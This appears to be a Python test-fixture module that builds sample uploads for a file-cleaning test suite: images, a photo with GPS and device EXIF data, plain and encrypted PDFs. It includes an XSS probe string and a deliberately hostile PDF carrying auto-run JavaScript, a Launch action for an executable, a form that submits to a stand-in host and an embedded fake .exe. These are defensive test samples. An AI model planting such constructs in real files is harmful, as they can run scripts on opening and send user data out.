"""Files as people send them, good and bad. Made here, so that nothing binary lies in the repository."""

from __future__ import annotations

from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

MARKER = b"<script>alert(document.domain)</script>"


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (60, 40), colour: Any = "teal", **options: Any) -> bytes:
    """A picture whose upper left quarter is red, so that one sees how it lies."""
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    made = Image.new(options.pop("mode", "RGB"), size, colour)
    if made.mode == "RGB":
        made.paste("red", (0, 0, size[0] // 2, size[1] // 2))
    target = BytesIO()
    made.save(target, kind, **options)
    return target.getvalue()


def photo(*, orientation: int = 1) -> bytes:
    """As from a telephone: place, device, a comment and an orientation mark in it."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "GeheimeKamera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (50.0, 6.0, 0.0)
    return picture(exif=exif, comment=b"geheimer Kommentar", quality=95)


def pdf(pages: int = 1, **save: Any) -> bytes:
    made = pikepdf.new()
    for number in range(pages):
        made.add_blank_page(page_size=(595, 842))
        made.pages[-1].Contents = made.make_stream(f"0 0 {100 + number} 100 re f".encode() + b" " * 2000)
    target = BytesIO()
    made.save(target, compress_streams=False, **save)
    return target.getvalue()


def locked_pdf(*, user: str = "", owner: str = "owner") -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


def hostile_pdf() -> bytes:
    """Scripts, a program to start, an attachment, links out, a form that sends itself."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    page = made.pages[0]
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('boesartig')"))
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String("https://boesartig.example/")),
    )  # fmt: skip
    start = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.Launch, F=String("boesartig.exe")),
    )  # fmt: skip
    send = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("knopf"), Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.SubmitForm, F=String("https://boesartig.example/form")),
        AA=Dictionary(U=script),
    )  # fmt: skip
    page.Annots = Array([made.make_indirect(link), made.make_indirect(start), made.make_indirect(send)])
    page.AA = Dictionary(O=script)
    made.Root.OpenAction = script
    made.Root.AcroForm = Dictionary(
        Fields=Array([page.Annots[2]]), XFA=made.make_stream(b"<xfa><script>boesartig</script></xfa>")
    )
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    made.attachments["boesartig.exe"] = b"MZ boesartig"
    made.docinfo["/Author"] = "Geheimer Name"
    target = BytesIO()
    made.save(target)
    return target.getvalue()
